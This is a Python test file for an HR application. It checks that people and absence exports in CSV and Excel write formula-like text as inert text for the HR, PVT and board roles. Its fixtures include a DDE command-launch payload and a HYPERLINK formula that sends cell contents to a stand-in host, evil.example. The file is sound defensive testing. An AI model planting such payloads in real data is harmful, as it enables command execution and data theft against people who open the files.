"""Exports open safely in a spreadsheet program: text that a spreadsheet would run as a formula
(`=`, `+`, `-`, `@`, tab, carriage return at the start) is written as text in every export, CSV
and Excel, for every audience; numbers stay numbers; the people export still imports unchanged."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from core import spreadsheet
from hrm.importers import plan_import
from tests.factories import ContractFactory, EmployeeFactory, TeamFactory

EVIL_TEAM = "=cmd|' /C calc'!A0"
EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"x")'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_cells(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def xlsx_cells(content: bytes) -> list:
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def assert_csv_is_inert(content: bytes, *expected: str) -> None:
    cells = [cell for row in csv_cells(content) for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    for text in expected:
        assert "'" + text in cells


def assert_xlsx_is_inert(content: bytes, *expected: str) -> None:
    cells = xlsx_cells(content)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if c.data_type == "s"}
    for text in expected:
        assert text in texts  # the text itself, stored as text


# The helper ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text", ["=1+1", "+31 6 1234", "-2", "@SUM(A1)", "\tx", "\rx", EVIL_TEAM, EVIL_NAME]
)
def test_text_that_starts_a_formula_is_guarded_and_unguarded(text):
    guarded = spreadsheet.guard(text)

    assert guarded == "'" + text
    assert spreadsheet.unguard(guarded) == text


@pytest.mark.parametrize("value", ["Waalre", "", "'quoted", "a=b", 5, -5, -2.5, None, True])
def test_other_values_are_left_alone(value):
    assert spreadsheet.guard(value) == value
    if isinstance(value, str):
        assert spreadsheet.unguard(value) == value


def test_csv_guards_text_but_not_numbers():
    content = spreadsheet.csv_bytes(["name", "hours"], [["-x", -5], ["Piet", None]])

    assert csv_cells(content) == [["name", "hours"], ["'-x", "-5"], ["Piet", ""]]


def test_xlsx_writes_text_as_text_and_keeps_numbers():
    workbook = Workbook()
    spreadsheet.append(workbook.active, [EVIL_NAME, -5, "=1+1", "bell\x07"])

    cells = xlsx_cells(spreadsheet.xlsx_bytes(workbook))

    assert [(c.value, c.data_type) for c in cells] == [
        (EVIL_NAME, "s"),
        (-5, "n"),
        ("=1+1", "s"),
        ("bell", "s"),  # a character Excel cannot store is left out, not a failed export
    ]
    assert cells[0].quotePrefix and cells[2].quotePrefix and not cells[1].quotePrefix


# Every export ---------------------------------------------------------------------------------


@pytest.fixture
def evil(db):
    """A team and a person whose names are formulas (enough people for the team not to be
    suppressed for PVT and the board)."""
    team = TeamFactory(name=EVIL_TEAM)
    for number in range(6):
        person = EmployeeFactory(
            personnel_number=f"X{number:03d}",
            last_name=EVIL_NAME if number == 0 else f"Jansen {number}",
            first_name="@Piet" if number == 0 else "Jan",
        )
        ContractFactory(employee=person, team=team, job_title="-senior")
    return team


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_people_export_is_inert(client, hr, evil, fmt):
    client.force_login(hr)

    response = client.get(f"/people/export.{fmt}")

    assert response.status_code == 200
    check = assert_csv_is_inert if fmt == "csv" else assert_xlsx_is_inert
    check(response.content, EVIL_TEAM, EVIL_NAME, "@Piet", "-senior")


@pytest.mark.parametrize("role", ["hr", "pvt", "board"])
@pytest.mark.parametrize("query", [{"by": "team"}, {"by": "month", "team": EVIL_TEAM}])
def test_absence_csv_export_is_inert(client, request, evil, role, query):
    client.force_login(request.getfixturevalue(role))

    response = client.get("/absence/export.csv", query)

    assert response.status_code == 200
    if query["by"] == "team":
        assert_csv_is_inert(response.content, EVIL_TEAM)
    else:
        assert_csv_is_inert(response.content)


@pytest.mark.parametrize("role", ["hr", "pvt", "board"])
@pytest.mark.parametrize("query", [{}, {"team": EVIL_TEAM}])
def test_absence_xlsx_export_is_inert(client, request, evil, role, query):
    client.force_login(request.getfixturevalue(role))

    response = client.get("/absence/export.xlsx", query)

    assert response.status_code == 200
    assert_xlsx_is_inert(response.content, *([] if query else [EVIL_TEAM]))


def test_people_export_with_formulas_imports_unchanged(client, hr, evil):
    client.force_login(hr)
    content = client.get("/people/export.csv").content

    result, _rows = plan_import(content)

    assert result.ok, result.problems
    assert not result.has_changes
